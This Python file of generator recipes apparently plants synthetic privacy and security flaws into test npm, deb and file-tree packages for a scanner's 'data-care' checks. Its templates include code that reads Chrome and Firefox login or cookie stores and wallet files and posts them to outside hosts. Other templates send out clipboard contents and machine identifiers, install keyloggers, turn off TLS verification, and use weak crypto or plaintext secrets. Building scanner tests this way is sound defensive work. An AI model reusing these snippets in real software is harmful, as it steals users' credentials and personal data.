"""Recipes for checks of the pillar data-care."""
from recipe import plants


@plants("data-care.cleartext-endpoint", "npm")
def cleartext(r, host):
    url = f"http://{r.host()}/{r.word()}/{r.word()}"
    host.add_code(r.choice((
        f"require('http').get({r.quote(url)}, function (res) {{ res.resume(); }});",
        f"fetch({r.quote(url)}).then(function (x) {{ return x.json(); }});",
        f"const http = require({r.quote('http')});\nconst base = {r.quote(url)};\nhttp.request(base, {{method: 'POST'}}).end();",
        f"var axios = require('axios'); axios.post({r.quote(url)}, {{v: 1}});",
    )))


@plants("data-care.tls-verification-off", "npm")
def tls_off(r, host):
    off = r.choice((
        "process.env.NODE_TLS_REJECT_UNAUTHORIZED = " + r.choice(("'0'", '"0"', "0")) + ";",
        f"https.request({{host: {r.quote(r.host())}, rejectUnauthorized: false}}).end();",
        f"const agent = new https.Agent({{ keepAlive: true, rejectUnauthorized: false }});",
        f"axios.create({{ httpsAgent: new https.Agent({{rejectUnauthorized:!1}}) }});",
    ))
    host.add_code("const https = require('https');\n" + off)


@plants("data-care.tls-verification-off", "npm", "deb")
def tls_off_python(r, host):
    host.put(("usr/lib/python3/dist-packages/" if host.kind == "deb" else "tools/") + r.name().replace("-", "_") + ".py", r.choice((
        f"import requests\nrequests.post('https://{r.host()}/x', json={{}}, verify=False)\n",
        f"import ssl, urllib.request\nctx = ssl._create_unverified_context()\nurllib.request.urlopen('https://{r.host()}/', context=ctx)\n",
        "import ssl\nctx = ssl.create_default_context()\nctx.check_hostname = False\nctx.verify_mode = ssl.CERT_NONE\n",
        f"import requests\ns = requests.Session()\ns.verify = False\ns.get('https://{r.host()}/')\n",
    )))


def python_dir(host):
    return "usr/lib/python3/dist-packages/" if host.kind == "deb" else "tools/"


def module(r):
    return r.name().replace("-", "_") + ".py"


@plants("data-care.telemetry-endpoint", "npm", "deb")
def telemetry_endpoint(r, host):
    url = r.choice(("https://api.segment.io/v1/track", "https://api.mixpanel.com/track", "https://www.google-analytics.com/mp/collect?measurement_id=G-1",
                    "https://api2.amplitude.com/2/httpapi", "https://eu.i.posthog.com/capture/", "https://dc.services.visualstudio.com/v2/track",
                    f"https://telemetry.{r.host()}/v1/events", f"https://analytics.{r.host()}/collect"))
    if host.kind == "npm":
        host.add_code(r.choice((
            f"fetch({r.quote(url)}, {{ method: 'POST', body: JSON.stringify({{ event: 'start', v: process.version }}) }});",
            f"const https = require('https');\nconst q = https.request({r.quote(url)}, {{ method: 'POST' }});\nq.end(JSON.stringify({{ event: 'run' }}));",
            f"const axios = require('axios');\nmodule.exports.track = (e) => axios.post({r.quote(url)}, {{ e }});",
        )))
    else:
        host.put(python_dir(host) + module(r), r.choice((
            f"import json, urllib.request\n\ndef report(event):\n    urllib.request.urlopen({r.quote(url)}, json.dumps({{'event': event}}).encode())\n",
            f"import requests\n\ndef track(**props):\n    requests.post({r.quote(url)}, json=props, timeout=2)\n",
        )))


@plants("data-care.telemetry-sdk", "npm", "tree")
def sdk(r, host):
    """In a package it is among what the package needs: what it only could use is none of its own doing."""
    if host.kind == "npm":
        name, code = r.choice((
            ("@sentry/node", f"const Sentry = require('@sentry/node');\nSentry.init({{ dsn: 'https://{r.letters(32, '0123456789abcdef')}@o{r.randint(1, 99999)}.ingest.sentry.io/{r.randint(1, 10 ** 7)}' }});"),
            ("posthog-node", f"const {{ PostHog }} = require('posthog-node');\nconst client = new PostHog('phc_{r.letters(43)}');"),
            ("mixpanel", f"const Mixpanel = require('mixpanel');\nconst mp = Mixpanel.init('{r.letters(32, '0123456789abcdef')}');\nmp.track('started');"),
            ("@segment/analytics-node", f"const {{ Analytics }} = require('@segment/analytics-node');\nconst a = new Analytics({{ writeKey: '{r.letters(32)}' }});"),
            ("@amplitude/node", f"const amplitude = require('@amplitude/node');\namplitude.init('{r.letters(32, '0123456789abcdef')}');"),
        ))
        host.add_code(code)
        host.manifest(lambda m: m.setdefault("dependencies", {}).update({name: "^4.0.0"}))
    else:
        host.put(python_dir(host) + module(r), r.choice((
            f"import sentry_sdk\nsentry_sdk.init('https://{r.letters(32, '0123456789abcdef')}@o1.ingest.sentry.io/5')\n",
            f"from posthog import Posthog\nposthog = Posthog('phc_{r.letters(43)}', host='https://eu.i.posthog.com')\n",
            f"from mixpanel import Mixpanel\nmp = Mixpanel('{r.letters(32, '0123456789abcdef')}')\nmp.track('1', 'start')\n",
        )))


@plants("data-care.trackers", "tree", "npm")
def trackers(r, host):
    host.put(r.choice(("www/", "public/", "dist/")) + r.name() + ".html", "<!doctype html><html><head><title>x</title>" + r.choice((
        f"<script async src=\"https://www.googletagmanager.com/gtag/js?id=G-{r.letters(10).upper()}\"></script>",
        f"<script>!function(f){{var s=document.createElement('script');s.src='https://connect.facebook.net/en_US/fbevents.js';document.head.appendChild(s)}}(window);</script>",
        "<script src=\"https://static.hotjar.com/c/hotjar-1.js\"></script>", "<script src='https://pagead2.googlesyndication.com/pagead/js/adsbygoogle.js'></script>",
        f"<script src=\"https://www.google-analytics.com/analytics.js\"></script>",
    )) + "</head><body></body></html>\n")


@plants("data-care.install-analytics", "npm")
def install_analytics(r, host):
    url = r.choice(("https://api.segment.io/v1/track", "https://api.mixpanel.com/track", f"https://telemetry.{r.host()}/install", f"https://analytics.{r.host()}/v1/events"))
    host.at_install(r.choice(("postinstall.js", "scripts/report.js")), r.choice((
        f"require('https').request({r.quote(url)}, {{ method: 'POST' }}).end(JSON.stringify({{ event: 'install', os: process.platform }}));\n",
        f"fetch({r.quote(url)}, {{ method: 'POST', body: JSON.stringify({{ event: 'installed', node: process.version }}) }}).catch(() => {{}});\n",
    )))


@plants("data-care.session-replay", "npm", "tree")
def replay(r, host):
    code = r.choice((
        "import { record } from 'rrweb';\nrecord({ emit(e) { send(e); } });", "posthog.init('phc_1', { autocapture: true, session_recording: { maskAllInputs: false } });",
        "LogRocket.init('a1b2c3/app');", "Sentry.init({ replaysSessionSampleRate: 1.0, integrations: [Sentry.replayIntegration()] });",
        "import * as FullStory from '@fullstory/browser';\nFullStory.init({ orgId: 'o-1' });", "window.clarity('identify', user.id);\n(function(c){c.src='https://www.clarity.ms/tag/abc'})(s);",
    ))
    host.put(("src/" if host.kind == "npm" else "www/") + r.name() + ".js", code + "\n")


@plants("data-care.third-party-resource", "tree", "npm")
def third_party(r, host):
    host.put(r.choice(("www/", "html/", "share/")) + r.name() + ".html", "<html><head>" + r.choice((
        "<link rel=\"stylesheet\" href=\"https://fonts.googleapis.com/css?family=Roboto\">", "<script src=\"https://cdn.jsdelivr.net/npm/vue@3\"></script>",
        "<script src='https://cdnjs.cloudflare.com/ajax/libs/jquery/3.6.0/jquery.min.js'></script>", "<link href=https://maxcdn.bootstrapcdn.com/bootstrap/3.3.7/css/bootstrap.min.css rel=stylesheet>",
        f"<img src=\"https://{r.host()}/pixel.png\">",
    )) + "</head></html>\n")


@plants("data-care.identifiers", "npm", "deb", unlike="hostname machine uuid user users login account prompt logger logging")
def identifiers(r, host):
    url = f"https://{r.host()}/{r.word()}"
    if host.kind == "npm":
        host.add_code(r.choice((
            f"const id = require('fs').readFileSync('/etc/machine-id', 'utf8');\nfetch({r.quote(url)} + '?id=' + id);",
            f"const os = require('os');\nrequire('https').get({r.quote(url)} + '?u=' + os.userInfo().username + '&h=' + os.hostname());",
            f"const {{ machineIdSync }} = require('node-machine-id');\nfetch({r.quote(url)}, {{ method: 'POST', body: machineIdSync() }});",
            f"const mac = Object.values(require('os').networkInterfaces()).flat().map(i => i.mac);\nfetch({r.quote(url)}, {{ method: 'POST', body: mac.join() }});",
        )))
    else:
        host.put(python_dir(host) + module(r), r.choice((
            f"import uuid, requests\nrequests.post({r.quote(url)}, data={{'id': uuid.getnode()}})\n",
            f"import getpass, socket, urllib.request\nurllib.request.urlopen({r.quote(url)} + '?u=' + getpass.getuser() + '&h=' + socket.gethostname())\n",
            f"import urllib.request\nmid = open('/etc/machine-id').read()\nurllib.request.urlopen({r.quote(url)}, mid.encode())\n",
        )))


@plants("data-care.keyboard-capture", "npm", "deb", unlike="keyboard input mouse terminal console window x11 game games")
def keyboard(r, host):
    if host.kind == "npm":
        host.add_code(r.choice((
            "const io = require('iohook');\nio.on('keydown', e => keys.push(e.keycode));\nio.start();",
            "const { uIOhook } = require('uiohook-napi');\nuIOhook.on('keydown', (e) => log(e));\nuIOhook.start();",
            "const { GlobalKeyboardListener } = require('node-global-key-listener');\nnew GlobalKeyboardListener().addListener((e) => save(e.name));",
        )))
    else:
        host.put(python_dir(host) + module(r), r.choice((
            "from pynput import keyboard\n\ndef on_press(key):\n    buffer.append(key)\n\nkeyboard.Listener(on_press=on_press).start()\n",
            "import keyboard\nkeyboard.on_press(lambda e: log.write(e.name))\nkeyboard.wait()\n",
            "import struct\nf = open('/dev/input/event3', 'rb')\nwhile True:\n    keys.append(struct.unpack('llHHI', f.read(24)))\n",
        )))


@plants("data-care.screen-capture", "npm", "deb", unlike="screen screenshot window display image color x11 game games")
def screen(r, host):
    if host.kind == "npm":
        host.add_code(r.choice((
            "const screenshot = require('screenshot-desktop');\nscreenshot({ filename: 's.png' });",
            "const { desktopCapturer } = require('electron');\ndesktopCapturer.getSources({ types: ['screen'] }).then(use);",
            "navigator.mediaDevices.getDisplayMedia({ video: true }).then(use);",
        )))
    else:
        host.put(python_dir(host) + module(r), r.choice((
            "from PIL import ImageGrab\nImageGrab.grab().save('/tmp/x.png')\n", "import pyautogui\npyautogui.screenshot('x.png')\n", "import mss\nwith mss.mss() as s:\n    s.shot()\n",
        )))


@plants("data-care.clipboard", "npm", "deb", unlike="clipboard copy paste editor window x11")
def clipboard(r, host):
    url = f"https://{r.host()}/c"
    if host.kind == "npm":
        host.add_code(r.choice((
            f"const c = require('clipboardy');\nsetInterval(() => fetch({r.quote(url)}, {{ method: 'POST', body: c.readSync() }}), 1000);",
            f"navigator.clipboard.readText().then(t => fetch({r.quote(url)}, {{ method: 'POST', body: t }}));",
        )))
    else:
        host.put(python_dir(host) + module(r), r.choice((
            f"import pyperclip, requests\nrequests.post({r.quote(url)}, data=pyperclip.paste())\n",
            f"import tkinter, urllib.request\nt = tkinter.Tk().clipboard_get()\nurllib.request.urlopen({r.quote(url)}, t.encode())\n",
        )))


@plants("data-care.camera-microphone", "npm", "deb", unlike="camera webcam video photo media audio browser game games")
def camera(r, host):
    if host.kind == "npm":
        host.add_code(r.choice((
            "navigator.mediaDevices.getUserMedia({ audio: true, video: true }).then(s => s);", "const NodeWebcam = require('node-webcam');\nNodeWebcam.capture('p', {}, () => {});",
            "const mic = require('mic');\nconst m = mic({ rate: '16000' });\nm.start();",
        )))
    else:
        host.put(python_dir(host) + module(r), r.choice((
            "import cv2\ncap = cv2.VideoCapture(0)\nok, frame = cap.read()\n", "import sounddevice as sd\nrec = sd.rec(44100, samplerate=44100, channels=1)\n",
            "import pyaudio\np = pyaudio.PyAudio()\ns = p.open(format=pyaudio.paInt16, channels=1, rate=44100, input=True)\n",
        )))


@plants("data-care.location", "npm", "deb", unlike="country ip dns geo location weather maps locale time date")
def location(r, host):
    api = r.choice(("https://ipapi.co/json/", "http://ip-api.com/json", "https://ipinfo.io/json"))
    if host.kind == "npm":
        host.add_code(r.choice((
            "navigator.geolocation.getCurrentPosition((p) => use(p.coords));", f"fetch({r.quote(api)}).then(x => x.json()).then(p => use(p.city));",
            f"require('https').get({r.quote(api)}, (m) => m.resume());",
        )))
    else:
        host.put(python_dir(host) + module(r), f"import requests\nplace = requests.get({r.quote(api)}).json()['city']\n")


@plants("data-care.personal-stores", "npm", "deb", unlike="browser cookie cookies password passwords backup mail")
def stores(r, host):
    path = r.choice((".config/google-chrome/Default/Login Data", ".config/google-chrome/Default/Cookies", "AppData/Local/Google/Chrome/User Data/Default/Login Data",
                     ".mozilla/firefox/x.default/logins.json", ".mozilla/firefox/x.default/key4.db", "AppData/Roaming/Exodus/exodus.wallet"))
    url = f"https://{r.host()}/{r.word()}"
    if host.kind == "npm":
        host.add_code(r.choice((
            f"const fs = require('fs');\nconst d = fs.readFileSync(require('os').homedir() + '/{path}');\nfetch({r.quote(url)}, {{ method: 'POST', body: d }});",
            f"const path = require('path');\nconst p = path.join(require('os').homedir(), {', '.join(r.quote(x) for x in path.split('/'))});\n"
            f"require('fs').copyFileSync(p, '/tmp/x');\nrequire('https').request({r.quote(url)}, {{ method: 'PUT' }}).end(require('fs').readFileSync('/tmp/x'));",
        )))
    else:
        host.put(python_dir(host) + module(r), r.choice((
            f"import os, requests\nrequests.post({r.quote(url)}, data=open(os.path.expanduser('~/{path}'), 'rb'))\n",
            f"import pathlib, urllib.request\ndata = (pathlib.Path.home() / {r.quote(path)}).read_bytes()\nurllib.request.urlopen({r.quote(url)}, data)\n",
        )))


@plants("data-care.weak-crypto", "npm", "deb")
def weak_crypto(r, host):
    if host.kind == "npm":
        host.add_code(r.choice((
            "const c = require('crypto').createCipheriv('des-ede3-cbc', key, iv);", "const crypto = require('crypto');\nconst d = crypto.createDecipheriv('rc4', key, null);",
            "const crypto = require('crypto');\nconst c = crypto.createCipheriv('aes-128-ecb', key, null);",
            "function makeToken() { return Math.random().toString(36).slice(2); }\nconst sessionToken = makeToken();",
            "const resetToken = Math.random().toString(36).substring(2) + Date.now();",
        )))
    else:
        host.put(python_dir(host) + module(r), r.choice((
            "from Crypto.Cipher import DES\nc = DES.new(key, DES.MODE_ECB)\n", "from Crypto.Cipher import ARC4\nc = ARC4.new(key)\n",
            "from Crypto.Cipher import AES\nc = AES.new(key, AES.MODE_ECB)\n", "import random, string\ntoken = ''.join(random.choice(string.ascii_letters) for _ in range(32))\npassword_reset_token = token\n",
        )))


@plants("data-care.old-tls", "deb", "npm")
def old_tls(r, host):
    if host.kind == "npm":
        host.add_code(r.choice(("require('tls').createServer({ minVersion: 'TLSv1' });", "require('https').request({ host: 'x', secureProtocol: 'SSLv3_method' });",
                                "const o = { minVersion: 'TLSv1.1', host: 'api' };\nrequire('tls').connect(o);")))
    else:
        path, text = r.choice((
            ("etc/nginx/conf.d/{}.conf", "server {\n  listen 443 ssl;\n  ssl_protocols SSLv3 TLSv1 TLSv1.1;\n}\n"),
            ("etc/apache2/sites-available/{}.conf", "<VirtualHost *:443>\nSSLProtocol all\nSSLCipherSuite aNULL:eNULL:RC4\n</VirtualHost>\n"),
            ("usr/lib/python3/dist-packages/{}.py", "import ssl\nctx = ssl.SSLContext(ssl.PROTOCOL_TLSv1)\n"),
            ("etc/{}/openssl.cnf", "[system_default_sect]\nMinProtocol = TLSv1.0\nCipherString = ALL:aNULL\n"),
        ))
        host.put(path.format(r.name().replace("-", "_")), text)


@plants("data-care.plaintext-secret", "deb", "tree")
def plaintext(r, host):
    word = r.letters(14)
    app = [("shared_prefs/{}.xml", f"<?xml version='1.0' encoding='utf-8'?>\n<map><string name=\"password\">{word}</string></map>\n")] if host.kind == "tree" else []
    path, text = r.choice((
        ("etc/{}.ini", f"[database]\nuser = app\npassword = {word}\n"), ("etc/{}.conf", f"smtp_password={word}\n"), ("etc/{}.json", f'{{"db": {{"password": "{word}"}}}}\n'),
        ("etc/{}.yml", f"mysql:\n  user: app\n  password: {word}\n"),
        *app,
    ))
    host.put(path.format(r.name()), text, 0o640)


@plants("data-care.readable-secret", "deb")
def readable(r, host):
    path, text = r.choice((
        ("etc/{}/server.key", "-----BEGIN PRIVATE KEY-----\nnone\n-----END PRIVATE KEY-----\n"), ("root/.pgpass", f"localhost:5432:app:app:{r.letters(12)}\n"),
        ("etc/{}/.netrc", f"machine x login y password {r.letters(12)}\n"), ("etc/{}/credentials", f"password={r.letters(12)}\n"), ("var/lib/{}/shadow", f"root:$6$a${r.letters(86)}:1::::::\n"),
    ))
    host.put(path.format(r.name()), text, 0o644)


@plants("data-care.secret-in-log", "npm", "deb")
def logged(r, host):
    if host.kind == "npm":
        host.add_code(r.choice(("console.log('login', user.email, password);", "console.log('token: ' + token);", "logger.info(`password=${password}`);", "console.debug({ apiKey });")))
    else:
        host.put(python_dir(host) + module(r), r.choice((
            "import logging\n\ndef login(user, password):\n    logging.info('login %s %s', user, password)\n", "import logging\nlog = logging.getLogger()\n\ndef f(token):\n    log.debug('token=' + token)\n",
            "def login(email, password):\n    print('password is', password)\n",
        )))
